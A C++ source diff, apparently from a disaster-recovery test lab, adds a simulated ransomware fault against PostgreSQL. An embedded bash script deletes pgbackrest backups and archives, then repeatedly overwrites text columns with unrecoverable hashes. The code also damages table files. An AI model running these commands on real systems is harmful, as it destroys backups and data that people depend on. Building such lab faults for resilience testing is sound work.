@@ -1,0 +1,101 @@
+#include "lab/attack.hpp"
+
+#include <fmt/format.h>
+#include <pwd.h>
+#include <signal.h>
+#include <sys/stat.h>
+
+#include "core/base/split.hpp"
+#include "lab/data_faults.hpp"
+#include "lab/file_faults.hpp"
+#include "lab/server_sql.hpp"
+
+namespace lifeboat::lab {
+
+namespace {
+
+constexpr Duration kWithin{30'000};
+constexpr const char* kAttacker = "attacker";
+constexpr int kRowsAtOnce = 40;
+// Stands before what was encrypted, so that nothing is encrypted twice. Of the same letters as base64.
+constexpr std::string_view kMark = "LOCKED";
+
+// Ends with the host or when it is told to. A server that takes no writes is tried again.
+constexpr const char* kAttack = R"(
+for config in $(find "$FOLDER" -name pgbackrest.conf 2>/dev/null); do
+  for deed in "--repo1-retention-full=1 expire" "repo-rm --recurse backup" "repo-rm --recurse archive"; do
+    echo "$config: $deed"
+    runuser -u "$OWNER" -- pgbackrest --config="$config" --stanza="$STANZA" --log-level-file=off $deed 2>&1
+    echo "ended with $?"
+  done
+done
+while sleep 0.5; do
+  runuser -u "$OWNER" -- psql -X -q -v ON_ERROR_STOP=1 -h "$SOCKET" -p "$PORT" -U postgres -d "$DATABASE" -c "$DEED"
+done
+)";
+
+// The columns of text, each as an assignment of what nobody can read without the key.
+Result<std::string> deed_on(const HitTable& what) {
+  std::string sql = fmt::format(
+      "SELECT quote_ident(attname) FROM pg_attribute WHERE attrelid = '{}'::regclass AND attnum > 0 AND NOT "
+      "attisdropped AND atttypid IN ('text'::regtype, 'varchar'::regtype) ORDER BY attnum;\n",
+      what.table);
+  TRY(std::string said, run_sql(what.postmaster, what.database, sql, kWithin));
+  std::vector<std::string> columns = lines_of(said);
+  if (columns.empty())
+    return fail(ErrorKind::not_found, what.table + " has no column of text", "name another table by --target");
+  std::string assignments;
+  for (const std::string& column : columns) {
+    assignments += fmt::format("{0}{1} = '{2}' || encode(sha256(({1} || random()::text)::bytea), 'base64')",
+                               assignments.empty() ? "" : ", ", column, kMark);
+  }
+  return fmt::format(
+      "UPDATE {{0}} SET {} WHERE ctid = ANY(ARRAY(SELECT ctid FROM {{0}} WHERE NOT starts_with({}, '{}') LIMIT {}))",
+      assignments, columns.front(), kMark, kRowsAtOnce);
+}
+
+// Name of the user whom the server runs as.
+Result<std::string> owner_of(pid_t postmaster) {
+  struct stat about{};
+  if (stat(fmt::format("/proc/{}/cwd/.", postmaster).c_str(), &about) != 0) return std::unexpected(os_error("stat"));
+  const passwd* account = getpwuid(about.st_uid);
+  if (account == nullptr) return fail(ErrorKind::not_found, "the server's user has no name");
+  return std::string(account->pw_name);
+}
+
+}  // namespace
+
+Result<FaultDone> put_ransomware(LabWorld& world, const std::string& target, ActiveFault& active) {
+  TRY(HitTable what, find_table_to_hit(world, target));
+  TRY(std::string deed, deed_on(what));
+  TRY(std::string owner, owner_of(what.postmaster));
+  TRY(std::string place,
+      run_sql(what.postmaster, what.database, "SHOW unix_socket_directories;\nSHOW port;\n", kWithin));
+  std::vector<std::string> at = lines_of(place);
+  if (at.size() != 2) return fail(ErrorKind::internal, "the server printed what was not expected: " + place);
+  TRY(FaultDone done, hit(what, deed));
+  TRY(JsonArray files, damage_table_files(what.postmaster, what.database, what.table));
+  done.detail.as_object()["files"] = std::move(files);
+  Daemon attacker{.name = kAttacker,
+                  .argv = {"/bin/bash", "-c", kAttack},
+                  .folder = world.options.folder,
+                  .log = world.options.folder + "/logs/attacker.log"};
+  attacker.environment.add("FOLDER", world.options.folder + "/hosts/" + what.host);
+  attacker.environment.add("OWNER", owner);
+  attacker.environment.add("STANZA", what.service);
+  attacker.environment.add("SOCKET", at[0]);
+  attacker.environment.add("PORT", at[1]);
+  attacker.environment.add("DATABASE", what.database);
+  attacker.environment.add("DEED", fmt::format(fmt::runtime(deed), what.table));
+  TRY_VOID(world.machines.at(what.host)->start(attacker));
+  active.on_host = what.host;
+  return done;
+}
+
+Result<void> heal_ransomware(LabWorld& world, const ActiveFault& fault) {
+  Machine& machine = *world.machines.at(fault.on_host);
+  if (machine.state(kAttacker) != DaemonState::running) return {};
+  return machine.signal(kAttacker, SIGKILL);
+}
+
+}  // namespace lifeboat::lab
